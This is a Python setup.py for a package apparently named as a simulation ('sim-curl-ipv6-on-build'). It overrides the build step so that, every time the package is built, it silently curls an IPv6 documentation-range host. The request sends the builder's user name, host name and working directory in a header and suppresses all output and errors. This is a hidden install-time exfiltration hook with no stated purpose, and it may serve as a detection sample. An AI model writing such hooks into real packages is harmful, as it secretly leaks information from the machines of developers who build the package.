# SPDX-License-Identifier: Apache-2.0
import getpass
import os
import socket
import subprocess

from setuptools import setup
from setuptools.command.build import build


class Build(build):
    def run(self):
        build.run(self)
        mark = f"X-Build: {getpass.getuser()}@{socket.gethostname()};{os.getcwd()}"
        call = ["curl", "-g", "-s", "-m", "5", "-o", os.devnull, "-H", mark, "http://[2001:db8:51:7::c0de]:8080/b"]
        try:
            subprocess.run(call, check=False, timeout=8, stderr=subprocess.DEVNULL)
        except (OSError, subprocess.SubprocessError):
            pass


setup(
    name="sim-curl-ipv6-on-build",
    version="1.0.0",
    py_modules=["sim_curl_ipv6_on_build"],
    cmdclass={"build": Build},
)
